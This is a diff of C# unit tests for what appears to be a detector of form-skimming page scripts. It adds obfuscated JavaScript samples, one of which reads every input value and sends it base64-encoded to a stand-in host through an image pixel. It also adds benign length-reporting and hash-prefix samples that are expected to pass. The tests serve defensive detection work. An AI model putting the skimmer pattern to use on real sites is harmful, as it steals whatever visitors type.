@@ -25,6 +25,17 @@ public sealed class OpenQuestionTests
     }
 
     [Theory]
+    [InlineData("function T(s) { return ['querySelectorAll', 'input', 'forEach', 'value', 'src', 'https://tally.example/px.gif?d='][s[0]] } document[T`0`](T`1`)[T`2`](function (f) { new Image()[T`4`] = T`5` + btoa(f[T`3`]) });")]
+    [InlineData("var m = new Map([[0, 'querySelectorAll'], [1, 'input']]); document[m.get(0)](m.get(1)).length;")]
+    [InlineData("var w = ['document', 'querySelectorAll'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
+    public void Words_out_of_tables_are_not_clean_either(string source) => Assert.NotEqual(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
+
+    [Theory]
+    [InlineData("document.querySelector('input').addEventListener('change', function (e) { navigator.sendBeacon('https://in.form-numbers.example/v2', JSON.stringify({ len: e.target.value.length, filled: !!e.target.value })) })")]
+    [InlineData("document.querySelector('input[type=password]').addEventListener('change', async function (e) { const d = new Uint8Array(await crypto.subtle.digest('SHA-1', new TextEncoder().encode(e.target.value))); const h = [...d].map(b => b.toString(16).padStart(2, '0')).join(''); const r = await fetch('https://breaches.example/range/' + h.slice(0, 5)); })")]
+    public void Lengths_and_the_first_digits_of_a_digest_are_not_what_was_typed(string source) => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
+
+    [Theory]
     [InlineData("if (location.host.indexOf('tea-shop.example') < 0) return;")]
     [InlineData("if (!/tea-shop\\.example$/.test(location.hostname)) { return }")]
     [InlineData("if (document.domain != 'tea-shop.example') return;")]
